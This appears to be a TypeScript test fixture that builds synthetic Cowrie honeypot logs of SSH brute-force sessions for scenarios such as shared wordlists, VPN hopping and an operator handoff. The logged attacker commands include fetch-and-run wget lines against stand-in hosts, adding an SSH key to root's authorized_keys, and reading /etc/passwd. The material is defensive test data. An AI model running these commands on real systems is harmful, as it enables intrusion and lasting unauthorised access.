import { generator } from "../../testing/stored-log.ts";

/** The four scenarios of origins 2.19, as raw lines of a Cowrie decoy. */
type Session = Readonly<{
  /** ISO instant of its first line; the others follow by the second. */
  at: string;
  ip: string;
  decoy?: string;
  hassh?: string;
  /** `account:password`; the last one gets in, unless `refused`. */
  logins?: readonly string[];
  refused?: boolean;
  commands?: readonly string[];
  /** SHA-256 of files fetched, with the URL they came from. */
  files?: readonly (readonly [sha256: string, url: string])[];
}>;

let session = 0;

/** One session as Cowrie logs it. */
export function sessionLines({ at, ip, decoy = "decoy", ...did }: Session): readonly string[] {
  session += 1;
  const id = `s${session.toString(16).padStart(8, "0")}`;
  let ms = new Date(at).getTime();
  const line = (eventid: string, more: Readonly<Record<string, unknown>> = {}): string => {
    const timestamp = new Date(ms).toISOString();
    ms += 1_000;
    const base = { eventid: `cowrie.${eventid}`, timestamp, src_ip: ip, session: id, sensor: decoy, protocol: "ssh" };
    return JSON.stringify({ ...base, ...more });
  };
  const { hassh, logins = [], refused = false, commands = [], files = [] } = did;
  return [
    line("session.connect", { src_port: 40_000 + (session % 20_000), dst_port: 22 }),
    ...(hassh === undefined ? [] : [line("client.kex", { hassh })]),
    ...logins.map((login, index) => {
      const [username, password] = login.split(":");
      const isIn = !refused && index === logins.length - 1;
      return line(isIn ? "login.success" : "login.failed", { username, password });
    }),
    ...commands.map((input) => line("command.input", { input })),
    ...files.map(([shasum, url]) => line("session.file_download", { shasum, url, destfile: "/tmp/x" })),
    line("session.closed", { duration: 3 }),
  ];
}

export const hash32 = (digit: string): string => digit.repeat(32);
const hash64 = (digit: string): string => digit.repeat(64);

const WORDLIST = ["root:qwe-1", "root:asd-2", "admin:zxc-3", "oracle:rty-4", "test:fgh-5", "git:vbn-6", "ftp:uio-7"];

/** Two botnets guess from one public wordlist, with other tools, other files and other servers. */
export const sharedWordlist: readonly string[] = ["a", "b"].flatMap((tool, index) =>
  [1, 2, 3].flatMap((host) =>
    sessionLines({
      at: `2026-03-0${host}T1${index}:00:00Z`,
      ip: `198.51.${100 + index}.${host}`,
      hassh: hash32(tool),
      logins: WORDLIST,
      commands: [`cd /tmp; wget http://${tool}.example/${tool}.sh; sh ${tool}.sh`],
      files: [[hash64(tool), `http://${tool}.example/${tool}.sh`]],
    }),
  ),
);

/** One attacker who comes through another exit of a VPN each time, in another network. */
export const vpnHopping: readonly string[] = [1, 2, 3, 4, 5].flatMap((exit) =>
  sessionLines({
    at: `2026-03-05T0${exit}:00:00Z`,
    ip: `203.0.${100 + exit}.${10 * exit}`,
    hassh: hash32("c"),
    logins: ["svc-backup:blue-Harbor-19"],
    commands: ["uname -a", "cat /etc/passwd", `cat /home/svc/notes-${exit}.txt`],
  }),
);

/** One breaks in and leaves a way back, another takes it up nine hours later and looks around. */
export const multiOperatorHandoff: readonly string[] = [
  ...sessionLines({
    at: "2026-03-10T08:00:00Z",
    ip: "192.0.2.44",
    hassh: hash32("d"),
    logins: [...WORDLIST, "backup:Gr33n-Lantern"],
    commands: ["wget http://203.0.113.200/agent", "echo ssh-rsa AAAA x >> /root/.ssh/authorized_keys"],
  }),
  ...sessionLines({
    at: "2026-03-10T17:00:00Z",
    ip: "192.0.2.71",
    hassh: hash32("e"),
    logins: ["backup:Gr33n-Lantern"],
    commands: ["cat /proc/cpuinfo", "cat /etc/issue"],
  }),
];

/** One attacker, one attempt every five weeks, always from somewhere else, for most of a year. */
export const slowBurn: readonly string[] = [
  "2026-01-04",
  "2026-02-08",
  "2026-03-15",
  "2026-04-19",
  "2026-05-24",
  "2026-06-28",
].flatMap((day, index) =>
  sessionLines({
    at: `${day}T03:00:00Z`,
    ip: `100.128.${index}.7`,
    hassh: hash32("f"),
    logins: ["deploy:autumn-Lake-77"],
    commands: ["id", "wget http://slow.example/stage"],
    files: [[hash64("f"), "http://slow.example/stage"]],
  }),
);

/** A log of many attackers, some of whom share tools, files, habits or credentials. */
export function crowd(addresses: number, seed: number): readonly string[] {
  const random = generator(seed);
  const pick = (count: number): number => Math.floor(random() * count);
  return Array.from({ length: addresses }, (_, index) => {
    const gang = pick(Math.ceil(addresses / 4));
    return sessionLines({
      at: `2026-04-${String(1 + pick(28)).padStart(2, "0")}T0${pick(9)}:00:00Z`,
      ip: `45.${seed}.${Math.floor(index / 250)}.${1 + (index % 250)}`,
      hassh: random() < 0.5 ? hash32("0123456789abcdef"[pick(3)] ?? "0") : gang.toString(16).padStart(32, "0"),
      logins: [`root:pw-${pick(20)}`, `user${gang}:pw-${gang}`],
      commands: [`echo gang ${"abcdefgh"[gang % 8]}`, ["uname -a", "id", "w"][pick(3)] ?? "id"],
      files: random() < 0.3 ? [[gang.toString(16).padStart(64, "a"), `http://h${gang}.example/x`]] : [],
    });
  }).flat();
}
